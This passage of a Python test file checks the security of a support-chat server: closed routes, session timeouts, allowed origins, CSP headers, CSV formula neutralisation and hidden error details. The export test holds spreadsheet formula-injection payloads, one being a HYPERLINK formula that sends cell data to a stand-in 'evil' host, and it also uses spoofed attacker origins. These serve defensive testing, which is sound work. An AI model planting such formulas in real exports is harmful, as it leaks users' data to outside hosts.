    with httpx.Client(base_url=merchant.url, timeout=20) as http:
        element = {"element": {"type": "custom", "id": str(uuid.uuid4())}, "sessionId": "x"}
        for method in ("PUT", "DELETE"):
            r = http.request(method, "/project/element", json=element)
            assert (r.status_code, r.json()["detail"]) == (403, NOT_OFFERED)
        assert http.post("/mcp", json={}).status_code == 403


def test_an_agent_cannot_make_a_thread_public(agent: ChatServer, agent_token: str) -> None:
    # A shared thread would be readable from the merchant instance (no login) on the same
    # database; the app shares nothing, so the route is closed.
    with httpx.Client(base_url=agent.url, timeout=20) as http:
        r = http.put(
            "/project/thread/share",
            json={"threadId": str(uuid.uuid4()), "isShared": True},
            headers=_cookie(agent_token),
        )
    assert (r.status_code, r.json()["detail"]) == (403, NOT_OFFERED)


async def _session_after_timeout(url: str) -> tuple[int, int]:
    tab, asked = await _ask_in_new_tab(url)
    body = {
        "feedback": {"forId": asked["run_id"], "threadId": asked["thread_id"], "value": 1},
        "sessionId": tab.session_id,
    }
    await tab.__aexit__()
    async with httpx.AsyncClient(base_url=url, timeout=30) as http:
        soon = (await http.put("/feedback", json=body)).status_code
        await asyncio.sleep(SESSION_TIMEOUT_S + 3)
        late = (await http.put("/feedback", json=body)).status_code
    return soon, late


def test_disconnected_sessions_are_dropped_after_the_timeout(merchant: ChatServer) -> None:
    soon, late = _run(_session_after_timeout(merchant.url))
    assert soon == 200  # a dropped connection can still come back for a while
    assert late == 403  # then the session (and its memory) is gone


# -- origins and headers --------------------------------------------------------------------------


def test_only_the_widget_sites_may_call_the_merchant_instance(merchant: ChatServer) -> None:
    with httpx.Client(base_url=merchant.url, timeout=20) as http:
        allowed = http.get("/project/settings", headers={"Origin": WIDGET_SITE})
        assert allowed.status_code == 200
        assert allowed.headers["access-control-allow-origin"] == WIDGET_SITE
        for origin in ("http://evil.example", f"{merchant.url}.evil.example", "null"):
            refused = http.get("/project/settings", headers={"Origin": origin})
            assert (refused.status_code, refused.json()["detail"]) == (403, OTHER_SITE)
            assert "access-control-allow-origin" not in refused.headers

    async def sockets() -> None:
        async with Tab(merchant.url, headers={"Origin": WIDGET_SITE}):
            pass
        async with Tab(merchant.url, headers={"Origin": merchant.url}):
            pass
        with pytest.raises(SocketRefused):
            await Tab(merchant.url, headers={"Origin": "http://evil.example"}).__aenter__()

    _run(sockets())


def test_every_page_carries_csp_and_frame_headers(merchant: ChatServer) -> None:
    with httpx.Client(base_url=merchant.url, timeout=20) as http:
        for path in ("/", "/public/widget-demo.html", "/copilot/index.js", "/no/such/page"):
            response = http.get(path)
            assert response.headers["content-security-policy"] == CONTENT_SECURITY_POLICY
            assert response.headers["x-frame-options"] == "DENY"
            assert response.headers["x-content-type-options"] == "nosniff"
    # Images only from here or inline: a merchant's ![](http://tracker/p.png) loads nothing.
    assert "img-src 'self' data: blob:;" in CONTENT_SECURITY_POLICY
    assert "frame-ancestors 'none'" in CONTENT_SECURITY_POLICY
    # Fonts and styles are the app's own: no other host is named anywhere in the policy.
    assert "http" not in CONTENT_SECURITY_POLICY


# -- exports -------------------------------------------------------------------------------------


def test_csv_export_neutralises_formulas(merchant: ChatServer) -> None:
    from typer.testing import CliRunner

    from bot.cli import app

    for payload in ('=HYPERLINK("http://evil/?"&C3,"x")', "+1", "-1", "@SUM(A1)", "\tx", "\rx"):
        assert spreadsheet_safe(payload) == "'" + payload
    assert spreadsheet_safe("fine") == "fine"
    assert spreadsheet_safe(1) == 1

    # Through the server: a merchant's comment that is a formula, exported as text.
    async def comment() -> None:
        tab, asked = await _ask_in_new_tab(merchant.url, '=HYPERLINK("http://evil/")')
        try:
            feedback = {
                "forId": asked["run_id"],
                "threadId": asked["thread_id"],
                "value": 0,
                "comment": "=1+1",
            }
            async with httpx.AsyncClient(base_url=merchant.url, timeout=30) as http:
                body = {"feedback": feedback, "sessionId": tab.session_id}
                assert (await http.put("/feedback", json=body)).status_code == 200
        finally:
            await tab.__aexit__()

    _run(comment())
    result = CliRunner().invoke(
        app,
        ["feedback", "--csv"],
        env={"SUPPORTBOT_CHAT__DATABASE_URL": merchant.database_url},
    )
    assert result.exit_code == 0, result.output
    cells = [c for row in csv.reader(io.StringIO(result.stdout)) for c in row]
    assert "'=1+1" in cells
    assert '\'=HYPERLINK("http://evil/")' in cells
    assert not any(c.startswith(("=", "+", "@")) for c in cells)


# -- the middleware on its own ---------------------------------------------------------------


async def test_server_failures_reach_clients_as_a_plain_sentence(tmp_path: Path) -> None:
    from bot.config import SecuritySettings
    from bot.web_guard import SERVER_FAILED, GuardStore, SecurityMiddleware

    async def failing_app(scope: dict, receive: Any, send: Any) -> None:
        # As Chainlit's PUT /feedback does: HTTPException(detail=str(e), status_code=500).
        body = json.dumps({"detail": "KeyError: 'createdAt' at /srv/app/secret.py:12"}).encode()
        await send({"type": "http.response.start", "status": 500, "headers": []})
        await send({"type": "http.response.body", "body": body[:20], "more_body": True})
        await send({"type": "http.response.body", "body": body[20:]})

    url = f"sqlite+aiosqlite:///{tmp_path / 'chat.db'}"
    await create_schema_async(url)
    store = GuardStore(url)
    guarded = SecurityMiddleware(failing_app, SecuritySettings(), store, login_required=False)
    transport = httpx.ASGITransport(app=guarded)
    async with httpx.AsyncClient(transport=transport, base_url="http://test") as http:
        response = await http.put("/feedback", content=b"{}")
    await store.close()
    assert response.status_code == 500
    assert response.json() == {"detail": SERVER_FAILED}
    assert "createdAt" not in response.text
    assert response.headers["content-security-policy"] == CONTENT_SECURITY_POLICY
